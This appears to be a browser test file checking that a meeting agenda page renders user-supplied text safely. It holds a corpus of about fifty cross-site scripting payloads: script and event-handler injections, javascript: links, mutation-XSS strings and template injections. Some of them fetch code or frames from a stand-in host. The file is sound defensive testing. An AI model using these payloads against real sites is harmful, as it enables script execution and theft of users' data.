import { asked, complaints, pressRow } from './page.ts';
import { expect, test, type Page } from './warm.ts';

/** Where the texts would have something fetched from. */
const LEAK = 'https://leak.example.org';

/**
 * Texts that a page which took them for markup would run, fetch or be led away
 * by; the ways are those that HTML and its sanitizers are known to be tricked by.
 */
const corpus = [
  // Scripts and handlers.
  '<script>alert(1)</script>',
  `<script src="${LEAK}/a.js"></script>`,
  '"><script>alert(1)</script>',
  "' onfocus=alert(1) autofocus tabindex=0 x='",
  '" onmouseover="alert(1)" x="',
  '<img src=x onerror=alert(1)>',
  `<img src="${LEAK}/pixel.png" width=1 height=1>`,
  '<IMG SRC=x OnErRoR=&#97;lert(1)//',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<b onanimationstart=alert(1) style="animation:x 1s">x</b>',
  // What fetches, frames or leads away.
  '<a href="javascript:alert(1)">Join the meeting</a>',
  '<a href="java&#9;script:alert(1)">Join the meeting</a>',
  '<a href="data:text/html,<script>alert(1)</script>">Join</a>',
  'javascript:alert(1)//https://teams.microsoft.com/l/meetup-join/1',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<iframe src="${LEAK}/frame"></iframe>`,
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  `<meta http-equiv="refresh" content="0;url=${LEAK}/away">`,
  `<base href="${LEAK}/">`,
  `<link rel="stylesheet" href="${LEAK}/a.css">`,
  `<form action="${LEAK}/form" id="window"><button>Join</button></form>`,
  // Style.
  `<style>@import url("${LEAK}/b.css"); * { display: none }</style>`,
  `<div style="position:fixed;inset:0;background:url(${LEAK}/c.png)">Sign in</div>`,
  // Foreign content, and parsers that disagree (mutation XSS).
  '<svg onload=alert(1)>',
  '<svg><script>alert&lpar;1&rpar;</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>Join</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  `<svg><use href="${LEAK}/d.svg#x"></use></svg>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">Join</maction></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea><title></title><img src=x onerror=alert(1)>',
  // Comments within comments, and what ends them early.
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <!-- --> <img src=x onerror=alert(1)> -->',
  '<!--!> <script>alert(1)</script> <!-- --!> <script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  // Written so that it is markup only when it is decoded once more.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  // Languages of templates, ours among them.
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '{@html "<img src=x onerror=alert(1)>"}',
  '{ $query } { -term } { FUNC() }',
];

/** How many elements there are of each kind, and which attributes they have, by kind. */
const shape = (page: Page) =>
  page.evaluate(() => {
    const kinds: Record<string, number> = {};
    for (const one of document.querySelectorAll('*')) {
      const names = one.getAttributeNames().sort().join(' ');
      const kind = `${one.tagName} ${names}`;
      kinds[kind] = (kinds[kind] ?? 0) + 1;
    }
    return kinds;
  });

test('sr_29 markup in a meeting is text in its card, its row and its details', async ({ page }) => {
  await page.setViewportSize({ width: 1000, height: 3000 });
  const complained = complaints(page);
  await page.goto('/agenda.html');
  const put = (text: string) =>
    page.evaluate(async (detail) => {
      globalThis.dispatchEvent(new CustomEvent('fake-text', { detail }));
      for (let frame = 0; frame < 3; frame += 1) await new Promise(requestAnimationFrame);
    }, text);
  await put('plain words');
  const row = page.locator('[data-meeting="a/texts"]');
  await pressRow(row.getByRole('option'));
  await row.locator('summary').click();
  await expect(row.getByRole('listitem')).toContainText('plain words');
  const [plain, places] = [await shape(page), await page.getByText('plain words').count()];
  expect(places).toBeGreaterThan(15);

  const happened: string[] = [];
  page.on('request', (request) => happened.push(`request of ${request.url()}`));
  page.on('framenavigated', (frame) => happened.push(`way to ${frame.url()}`));
  page.on('dialog', (dialog) => {
    happened.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  for (const text of corpus) {
    await put(text);
    expect.soft(await shape(page), text).toEqual(plain);
    for (const place of ['.title span', '.notes', '.place', '.web .at', 'li']) {
      const shown = await row.locator(place).first().textContent();
      expect.soft(shown, `${place} of ${text}`).toContain(text);
    }
    expect.soft(await page.locator('.hero h2').textContent(), text).toBe(text);
  }
  await page.getByRole('searchbox').fill(`zzz ${corpus[5] ?? ''}`);
  await expect(
    page.getByText('No meeting matches “zzz <img src=x onerror=alert(1)>”.'),
  ).toBeVisible();
  expect(await page.locator('img').count()).toBe(0);
  // Nothing was stopped by the content policy: it was not asked.
  expect(complained).toEqual([]);
  expect(happened).toEqual([]);
  expect(await asked(page)).toEqual([]);
});
